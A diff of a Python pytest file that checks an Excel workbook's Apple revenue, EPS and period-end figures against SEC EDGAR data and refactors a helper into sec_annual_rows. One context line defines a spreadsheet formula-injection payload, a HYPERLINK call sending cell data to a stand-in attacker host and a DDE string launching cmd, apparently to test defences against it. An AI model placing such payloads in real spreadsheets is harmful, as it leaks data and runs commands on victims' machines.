@@ -40,8 +40,8 @@ RFCWC = "RevenueFromContractWithCustomerExcludingAssessedTax"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click") @SUM(1+1) +cmd|\' /C calc\'!A0'
 
 
-def sec_annual(concept: str, unit: str = "USD") -> dict[int, float]:
-    """Fiscal-year values of one concept straight from SEC's JSON: 10-K, a one-year duration, the value of
+def sec_annual_rows(concept: str, unit: str = "USD") -> dict[int, dict]:
+    """Fiscal-year rows of one concept straight from SEC's JSON: 10-K, a one-year duration, the row of
     the latest filing for each period end (Apple's fiscal year is named after the year it ends in)."""
     data = json.loads((BUNDLED / "sec_edgar" / "companyfacts" / f"CIK{CIK:010d}.json").read_text())
     rows = data["facts"]["us-gaap"][concept]["units"][unit]
@@ -52,7 +52,11 @@ def sec_annual(concept: str, unit: str = "USD") -> dict[int, float]:
         days = (dt.date.fromisoformat(r["end"]) - dt.date.fromisoformat(r["start"])).days
         if 350 <= days <= 380 and (r["end"] not in best or r["filed"] > best[r["end"]]["filed"]):
             best[r["end"]] = r
-    return {int(end[:4]): float(r["val"]) for end, r in best.items()}
+    return {int(end[:4]): r for end, r in best.items()}
+
+
+def sec_annual(concept: str, unit: str = "USD") -> dict[int, float]:
+    return {year: float(r["val"]) for year, r in sec_annual_rows(concept, unit).items()}
 
 
 @pytest.fixture(scope="module")
@@ -190,6 +194,9 @@ def test_workbook_sheets_and_annual_figures_equal_sec(files):
             cell = ws.cell(row, col)
             assert cell.data_type == "n" and cell.value == sec[year], (label, year)
             assert cell.number_format == "#,##0,,;-#,##0,,"  # shown in millions, the exact value kept
+    ends = {y: dt.datetime.fromisoformat(r["end"]) for y, r in sec_annual_rows(RFCWC).items()}
+    period_end = row_of(ws, "Period end", head)
+    assert {y: ws.cell(period_end, col).value for y, col in cols.items()} == {y: ends[y] for y in cols}
     eps = ws.cell(row_of(ws, "Diluted EPS", head), cols[2025])
     assert eps.value == sec_annual("EarningsPerShareDiluted", "USD/shares")[2025]
     assert ws.cell(eps.row, 2).value == "USD per share"
